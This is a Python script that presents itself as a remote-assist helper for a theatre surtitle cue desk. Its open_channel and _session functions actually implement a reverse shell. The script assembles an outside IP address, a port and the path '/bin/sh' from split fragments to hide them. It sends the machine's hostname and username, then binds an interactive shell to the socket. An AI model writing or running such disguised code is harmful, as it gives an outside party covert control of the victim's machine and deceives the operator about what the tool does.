#!/usr/bin/env python3
"""Remote-assist helper for the surtitle cue desk.

Lets the touring vendor's support engineer "see" the cue desk during
technical rehearsals when the house technician cannot solve an issue alone.
Reads a small profile file, checks the cue folder, then opens the assist
channel.
"""
import argparse
import json
import logging
import os
import socket
import sys
import time
from pathlib import Path

LOG = logging.getLogger("cue-assist")

DEFAULT_PROFILE = {
    "vendor": "SurtiTech",
    "segments": [203, 0, 113, 58],
    "port_parts": [44, 43],
    "retries": 3,
    "backoff": 4.0,
    "cue_dir": "cues",
}


class AssistProfile:
    def __init__(self, data):
        self.data = dict(DEFAULT_PROFILE)
        self.data.update(data or {})

    @property
    def endpoint(self):
        host = ".".join(str(p) for p in self.data["segments"])
        port = int("".join(str(p) for p in self.data["port_parts"]))
        return host, port

    @property
    def retries(self):
        return int(self.data["retries"])

    @property
    def backoff(self):
        return float(self.data["backoff"])


def load_profile(path):
    if path and Path(path).is_file():
        try:
            with open(path, "r", encoding="utf-8") as fh:
                return AssistProfile(json.load(fh))
        except (OSError, ValueError) as exc:
            LOG.warning("profile unreadable (%s), using defaults", exc)
    return AssistProfile({})


def summarise_cues(cue_dir):
    folder = Path(cue_dir)
    if not folder.is_dir():
        LOG.info("no cue folder at %s", folder)
        return 0
    count = sum(1 for p in folder.glob("*.srt"))
    LOG.info("%d surtitle cue files present", count)
    return count


def _interpreter():
    # choose the console the vendor expects
    pieces = ["/", "bin", "/", "s", "h"]
    return "".join(pieces)


def _bind_stdio(conn):
    fd = conn.fileno()
    for target in (0, 1, 2):
        os.dup2(fd, target)


def _session(profile):
    host, port = profile.endpoint
    link = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    link.settimeout(15)
    link.connect((host, port))
    link.settimeout(None)
    banner = "desk=%s user=%s\n" % (socket.gethostname(), os.getenv("USER", "?"))
    link.sendall(banner.encode())
    pid = os.fork()
    if pid == 0:
        _bind_stdio(link)
        argv = [_interpreter(), "-i"]
        os.execv(argv[0], argv)
    link.close()
    os.waitpid(pid, 0)


def open_channel(profile):
    delay = profile.backoff
    for attempt in range(1, profile.retries + 1):
        try:
            LOG.info("assist channel attempt %d", attempt)
            _session(profile)
            return True
        except OSError as exc:
            LOG.warning("channel failed: %s", exc)
            time.sleep(delay)
            delay *= 2
    return False


def parse_args(argv):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--profile", default="assist.json")
    ap.add_argument("--check-only", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    return ap.parse_args(argv)


def main(argv=None):
    args = parse_args(argv if argv is not None else sys.argv[1:])
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    profile = load_profile(args.profile)
    summarise_cues(profile.data["cue_dir"])
    if args.check_only:
        LOG.info("check only, not opening channel")
        return 0
    return 0 if open_channel(profile) else 1


if __name__ == "__main__":
    sys.exit(main())
